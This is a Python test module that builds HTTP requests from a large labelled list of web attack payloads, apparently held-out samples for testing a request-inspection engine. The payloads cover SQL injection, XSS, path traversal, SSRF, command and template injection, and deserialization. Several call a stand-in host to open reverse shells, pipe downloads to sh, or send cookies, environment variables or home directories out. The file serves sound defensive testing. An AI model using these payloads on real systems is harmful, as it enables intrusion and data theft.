"""Attacks by class that no rule was written for: all were written before any of them was judged.

A class is a list of lines, each an attack as a server reads the value. `requests` puts the values
in turn into a query, a form, JSON, a cookie and a path. All texts were written for this project;
hosts and addresses are of no real site.
"""

import json
from collections.abc import Iterator
from urllib.parse import quote_from_bytes

from juyong.engines.inspect.http import Peer, Request

ATTACKS: dict[str, str] = {
    "sql": r"""
7 and (select length(pass) from members limit 1)=8
-1 union/**/select/**/1,pass,3/**/from/**/members
gift') or ('b'='b
gift' or 4>3 -- -
12;update members set role='boss' where id=4
12 rlike (select (case when (21=21) then 12 else 0x28 end))
x'||(select pass from members where id=1)||'
1' and extractvalue(7,concat(0x7e,(select user())))-- q
0 or sleep(4)#
3;waitfor delay '0:0:6'--
red' and 1=(select count(*) from tabs); --
1 and ascii(substr((select token from keys limit 1),1,1))>64
(select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)
9' order by 12-- k
boss'--
boss' #
boss'/*
' or true;--
1';copy members to program 'id';--
1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
1;select pg_sleep(7)
a' and (select 1 from dual where database() like 'w%')='1
id=1 and 1 in (select @@version)
1' having 2=2--
%' and 3=dbms_pipe.receive_message(('q'),5) and '%'='
1 or 1 group by concat(version(),floor(rand(0)*2)) having min(0)
4 union all select null,null,group_concat(name) from sqlite_master
1'; exec master..xp_dirtree '//h.example/s'--
name' and json_extract(data,'$.k')='v' or '1
5 div 0 or not false
1^(select(1)from(members)where(id=1))
1' and if(mid(user(),1,1)='r',benchmark(4000000,sha1(1)),0)-- -
2) or (select top 1 name from sysobjects)>0--
'; drop view reports; --
1 and exists(select * from members where name='boss' and pass like 'a%')
""",
    "markup": r"""
<img src=q onerror=top[/al/.source+/ert/.source](9)>
<svg/onload=confirm`9`>
"><body onpageshow=print()>
<a href="jAvAsCrIpT:alert(9)">x</a>
<details open ontoggle=eval(name)>
<iframe srcdoc="&lt;script&gt;parent.alert(9)&lt;/script&gt;">
'-alert(document.domain)-'
";fetch('//h.example/?'+document.cookie);//
<scr<script>ipt>alert(9)</scr</script>ipt>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(9)>
<video><source onerror="location='//h.example'">
<input autofocus onfocus=import('//h.example/a.js')>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">
<base href=//h.example/>
<form action=javascript:alert(9)><button>go</button></form>
{{constructor.constructor('alert(9)')()}}
<x onclick=alert(9)>click me</x>
<marquee onstart=alert(9)>
<link rel=import href=//h.example/x>
\u003cscript\u003ealert(9)\u003c/script\u003e
<style>@import'//h.example/x.css';</style>
<div style="width:expression(alert(9))">
<meta http-equiv=refresh content="0;url=javascript:alert(9)">
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(9)//'>
<button popovertarget=p onbeforetoggle=alert(9)>
<script src=//h.example/p.js async></script>
onmouseover="alert(9)" x="
<template shadowrootmode=open><img src=x onerror=alert(9)></template>
""",
    "file": r"""
../../../../../../etc/hosts
..\..\..\windows\win.ini
....//....//....//etc/passwd
/proc/self/environ
file:///etc/shadow
php://filter/convert.base64-encode/resource=config
/var/www/html/../../../etc/group
/var/log/nginx/access.log
C:\Windows\System32\drivers\etc\hosts
phar:///tmp/a.jpg/b
expect://id
..%2f..%2f..%2fetc%2fpasswd
/home/app/.ssh/id_rsa
/etc/nginx/nginx.conf
zip:///tmp/a.zip#b.php
../../../app/config/database.yml
/root/.bash_history
/run/secrets/db_password
.../.../.../.../boot.ini
..;/..;/manager/html
""",
    "address": r"""
http://169.254.169.254/latest/meta-data/iam/
http://100.100.100.200/latest/meta-data/
http://127.0.0.1:6379/
http://[::1]:8080/admin
http://0x7f000001/
http://2130706433/
gopher://127.0.0.1:6379/_FLUSHALL
dict://localhost:11211/stats
http://localhost/server-status
http://metadata.google.internal/computeMetadata/v1/
http://127.1/
https://good.example@127.0.0.1/
ldap://127.0.0.1:389/
""",
    "command": r"""
;cat /etc/hosts
|id
`curl http://h.example/$(hostname)`
$(wget -qO- h.example/x|sh)
8.8.8.8 && uname -a
8.8.8.8; nc -e /bin/bash h.example 4444
a.png;ls -la /
|| ping -c 9 127.0.0.1
& dir c:\
& whoami /all
x|powershell -nop -w hidden -enc SQBFAFgA
a%0aid
;bash -c 'exec bash -i &>/dev/tcp/h.example/9 <&1'
$(echo aWQ=|base64 -d|sh)
;c'a't /e*c/h?sts
;cat${IFS}/etc/hosts
;python3 -c 'import pty;pty.spawn("sh")'
| certutil -urlcache -f http://h.example/a.exe a.exe
name; rm -rf /srv/*
;sleep 9
`id`
a; tar cf - /home | nc h.example 99
|dd if=/dev/zero of=/tmp/f
() { :;}; echo hit
;/bin/busybox telnetd -p 99
& start /b calc.exe
;find / -perm -4000
;env|curl -d @- h.example
;w\ho\am\i
;{cat,/etc/hosts}
cmd.exe /c type c:\boot.ini
;xterm -display h.example:1
;crontab -l
;echo hit > /var/www/html/a.php
&& mysqldump --all-databases
;awk 'BEGIN{system("id")}'
;openssl s_client -connect h.example:443
""",
    "php": r"""
<?php system($_GET['c']); ?>
<?=`id`?>
${@print(md5(7))}
phpinfo();
eval(base64_decode('aWQ='));
O:7:"Monster":1:{s:3:"cmd";s:2:"id";}
assert($_REQUEST[1])
system('id');
'.shell_exec('id').'
file_put_contents('a.php','x');
$a='sys'.'tem';$a('id');
call_user_func('system','id');
preg_replace('/x/e','system("id")','x');
array_map('assert',array($_POST['q']));
include('http://h.example/a.txt');
<script language="php">passthru('id');</script>
a:1:{i:0;O:3:"Foo":0:{}}
auto_prepend_file=php://input
""",
    "template": r"""
{{7*7}}
${7*7}
{{config.items()}}
{{''.__class__.__mro__[1].__subclasses__()}}
<%= 7*7 %>
#{7*7}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
<#assign e="freemarker.template.utility.Execute"?new()>${e("id")}
{{_self.env.registerUndefinedFilterCallback("exec")}}
{{request.application.__globals__.__builtins__.open('/etc/hosts').read()}}
#set($x=$class.inspect("java.lang.Runtime"))
{{cycler.__init__.__globals__.os.popen('id').read()}}
${T(java.lang.Runtime).getRuntime().exec('id')}
*{T(java.lang.System).getenv()}
{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}
@(6+5)
""",
    "code": r"""
require('child_process').execSync('id')
process.mainModule.require('fs').readFileSync('/etc/hosts')
__import__('os').system('id')
eval("__import__('subprocess').check_output('id')")
import os;os.popen('id')
exec(compile('import os','a','exec'))
{"rce":"_$$ND_FUNC$$_function(){require('child_process')}()"}
__proto__[isAdmin]
constructor[prototype][admin]
!!python/object/apply:os.system ["id"]
cos\nsystem\n(S'id'\ntR.
${jndi:ldap://h.example/a}
${${lower:j}ndi:${lower:l}dap://h.example/a}
${${::-j}${::-n}di:rmi://h.example/a}
rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ
%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}
new java.lang.ProcessBuilder("id").start()
class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://h.example/x"}
Kernel.exec("id")
IO.popen('id').read
system("id")
open("|id").read
YAML.load("--- !ruby/object:Gem::Installer\n i: x")
AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u
<%@ Page Language="C#" %>
(function(){return this.process.env})()
global.process.mainModule.constructor._load('child_process').exec('id')
subprocess.Popen(['sh','-c','id'],shell=True)
pickle.loads(base64.b64decode(x))
""",
    "query": r"""
{"$gt":""}
{"user":{"$ne":null},"pass":{"$ne":null}}
'; return true; var a='
' || this.pass.match(/^a/) || '
db.members.drop()
*)(uid=*))(|(uid=*
admin)(&)
*)(objectClass=*
x' or count(/*)=1 or 'a'='b
' or '1'='1' or ''='
'] | //user/*['
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://h.example/p.dtd">%p;]>
<xi:include href="file:///etc/hosts" parse="text"/>
<xsl:value-of select="system-property('xsl:vendor')"/>
{"$where":"sleep(900)"}
""",
    "header": r"""
a\r\nSet-Cookie: role=boss
a\r\n\r\n<html>hit</html>\r\nHTTP/1.1 200 OK
a\r\nLocation: http://h.example/
a@h.example\r\nBcc: all@h.example
x\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: a.example
a\nX-Forwarded-For: 127.0.0.1
""",
}
"""Attacks by class, one a line; `\\r` and `\\n` in "header" and `\\n` of pickles are line breaks."""
PATHS = (
    "/.git/HEAD",
    "/.env.production",
    "/a/..%2f..%2fetc/hosts",
    "/backup.sql.gz",
    "/wp-config.php.bak",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/.aws/credentials",
    "/id_rsa",
    "/shell.php",
    "/WEB-INF/web.xml",
    "/.svn/entries",
    "/config.ini",
    "/%24%7Bjndi:ldap://h.example/a%7D",
    "/<script>alert(9)</script>",
)
"""Targets that are attacks."""
LINES = "cos\\nsystem"


def values() -> Iterator[tuple[str, str]]:
    """Yield each attack as its class and its value."""
    for kind, text in ATTACKS.items():
        for line in text.strip().split("\n"):
            broken = kind == "header" or line.startswith(LINES)
            yield kind, line.replace("\\r", "\r").replace("\\n", "\n") if broken else line


def requests(ahead: str = "", behind: str = "") -> Iterator[tuple[str, Request, bytes]]:
    """Yield a request for each attack; see `sent`.

    Args:
        ahead: Text before the value.
        behind: Text after the value.
    """
    for at, (kind, value) in enumerate(values()):
        yield (kind, *sent(ahead + value + behind, at))
    if not ahead + behind:
        for at, path in enumerate(PATHS):
            yield ("path", *_request("GET", path, at))


def sent(value: str, at: int) -> tuple[Request, bytes]:
    """Return a request with a value; at: Chooses a query, a form, JSON or text."""
    coded = quote_from_bytes(value.encode())
    match at % 4:
        case 0 if len(value) < 2_000:
            return _request("GET", f"/items?id={coded}&page=2", at)
        case 1:
            body = json.dumps({"name": "Ann", "note": value}).encode()
            return _request("POST", "/api/notes", at, body, Content_Type="application/json")
        case 2 if len(value) < 2_000 and not {"\r", "\n"} & set(value):
            return _request("GET", "/", at, Cookie=f"lang=en; theme={coded}")
        case _:
            body = f"name=Ann&note={coded}".encode()
            kind = "application/x-www-form-urlencoded"
            return _request("POST", "/notes", at, body, Content_Type=kind)


def _request(
    method: str, target: str, at: int, body: bytes = b"", **headers: str
) -> tuple[Request, bytes]:
    told = {
        "Host": "shop.example",
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Accept": "*/*",
        **{name.replace("_", "-"): value for name, value in headers.items()},
    }
    if body:
        told["Content-Length"] = str(len(body))
    made = Request(
        method=method.encode(),
        target=target.encode(),
        version="HTTP/1.1",
        headers=tuple((name.encode(), value.encode()) for name, value in told.items()),
        client=Peer(address="192.0.2.7", port=4711),
        server=Peer(address="192.0.2.1", port=443),
        unique=f"fresh-{at}",
    )
    return made, body
